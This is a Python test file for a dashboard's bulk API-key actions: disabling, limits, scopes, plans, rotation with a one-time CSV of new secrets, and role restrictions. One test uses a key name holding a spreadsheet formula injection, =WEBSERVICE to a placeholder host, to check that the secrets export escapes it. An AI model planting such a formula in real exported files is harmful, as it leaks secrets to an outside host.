"""Changes of several keys at once: a result for each, and new secrets as a file, once."""

import csv
from collections.abc import Callable

import pytest

from tests.conftest import World, usd
from tests.dashboard.conftest import Visit
from toolkit.admin import keys, organisations, plans
from toolkit.admin.keys import NewSecret
from toolkit.core.policy import KeyStatus, Role
from toolkit.dashboard import key_bulk
from toolkit.store.tables import ApiKey

Open = Callable[..., Visit]


def stored(world: World, key: NewSecret) -> ApiKey:
    with world.workspace.read() as tx:
        return keys.find(tx, key.key.id)


def choose(page: Visit, act: str, *chosen: NewSecret) -> Visit:
    """Open the dialog, choose keys and an act."""
    page.click("bulk")
    page.app.multiselect(key="bulk_keys").set_value([new.key.id for new in chosen])
    page.app.selectbox(key="bulk_act").select(act)
    return page.run()


def test_one_that_fails_hides_no_other(visit: Open, world: World) -> None:
    """Each is told, and those that could be changed are."""
    one, two, off = world.key("one"), world.key("two"), world.key("off")
    with world.workspace.write() as tx:
        keys.disable(tx, off.key.id, confirm="off")
    page = choose(visit("keys"), "disable", one, two, off)
    assert "3 keys of 1 organisation" in page.text
    text = page.click("confirm").text
    assert "2 keys changed, 1 not." in text
    assert "already disabled" in text
    assert {stored(world, new).status for new in (one, two)} == {KeyStatus.DISABLED}
    assert "2 keys changed" not in page.click("bulk_stored").text


def test_a_limit_a_plan_a_scope_and_an_owner_are_set(visit: Open, world: World) -> None:
    """Of all that were chosen, and of no other."""
    one, two, other = world.key("one"), world.key("two"), world.key("other")
    page = choose(visit("keys"), "limit", one, two)
    page.type("bulk_limit", "nonsense")
    assert "not a" in page.run().text
    page.type("bulk_limit", "12.50")
    page.run().click("confirm").click("bulk_stored")
    page = choose(page, "models", one, two)
    page.app.multiselect(key="bulk_models").set_value(["gpt-test"])
    page.run().click("confirm").click("bulk_stored")
    page = choose(page, "owner", one, two)
    page.type("bulk_owner", "ada")
    page.run().click("confirm").click("bulk_stored")
    for new in (one, two):
        key = stored(world, new)
        assert (key.monthly_limit, key.scope, key.owner) == (usd(12.5), '["gpt-test"]', "ada")
    assert (stored(world, other).monthly_limit, stored(world, other).owner) == (None, "")


@pytest.mark.parametrize(("act", "free"), [("limit", "bulk_no_limit"), ("models", "bulk_all_models")])
def test_no_bound_is_taken_away_unasked(visit: Open, world: World, act: str, free: str) -> None:
    """What was left empty changes nothing; to free keys of a limit or a scope is said."""
    bound = world.key("bound", monthly_limit=usd(5), models=["gpt-test"])
    page = choose(visit("keys"), act, bound)
    assert page.app.button(key="confirm").disabled
    page.app.checkbox(key=free).check()
    page.run().click("confirm")
    key = stored(world, bound)
    assert (key.monthly_limit, key.scope) == ((None, '["gpt-test"]') if act == "limit" else (usd(5), "[]"))


def test_no_name_is_a_formula_beside_secrets(world: World) -> None:
    """A spreadsheet that opens the file must not send them anywhere."""
    new = world.key('=WEBSERVICE("http://x/?"&C2)')
    assert list(csv.reader(key_bulk.secrets_file([new]).splitlines()))[1][0] == '\'=WEBSERVICE("http://x/?"&C2)'


def test_rotated_secrets_come_as_one_file_once(visit: Open, world: World) -> None:
    """The old ones are dead, and the page forgets the new ones."""
    one, two = world.key("one"), world.key("two")
    page = choose(visit("keys"), "rotate", one, two).click("confirm")
    assert "Download the new secrets now." in page.text
    assert stored(world, one).display != one.key.display
    page.click("bulk_stored")
    assert "Download the new secrets" not in page.text
    assert list(csv.reader(key_bulk.secrets_file([one, two]).splitlines())) == [
        ["name", "id", "secret"],
        ["one", one.key.id, one.secret],
        ["two", two.key.id, two.secret],
    ]


@pytest.mark.parametrize("role", [Role.ORG_ADMIN, Role.ANALYST])
def test_nobody_changes_keys_that_are_not_theirs(visit: Open, world: World, role: Role) -> None:
    """Another organisation's are not among those that can be chosen; an analyst has no such dialog."""
    theirs = world.key("theirs")
    with world.workspace.write() as tx:
        other = organisations.add(tx, "Borealis").id
        keys.create(tx, world.workspace.keyring, org=other, name="own", plan=world.plan_id)
    page = visit("keys", role, other)
    if role is Role.ANALYST:
        assert not page.has_button("bulk")
        page.app.session_state["dialog"] = ("Bulk", "")
        assert not page.run().has_button("confirm")
        return
    page.click("bulk")
    assert page.app.multiselect(key="bulk_keys").options == ["own"]
    assert stored(world, theirs).status == KeyStatus.ACTIVE


def test_a_plan_is_given_to_several(visit: Open, world: World) -> None:
    """An org admin chooses among those that the organisation has."""
    one, two = world.key("one"), world.key("two")
    with world.workspace.write() as tx:
        dear = plans.add(tx, "Dear", 2_000_000, ["gpt-test"]).id
    own = choose(visit("keys", Role.ORG_ADMIN, world.org_id), "plan", one)
    assert own.app.selectbox(key="bulk_plan").options == ["standard"]
    page = choose(visit("keys"), "plan", one, two)
    page.app.selectbox(key="bulk_plan").select(dear)
    assert "2 keys changed, 0 not." in page.run().click("confirm").text
    assert {stored(world, new).plan_id for new in (one, two)} == {dear}
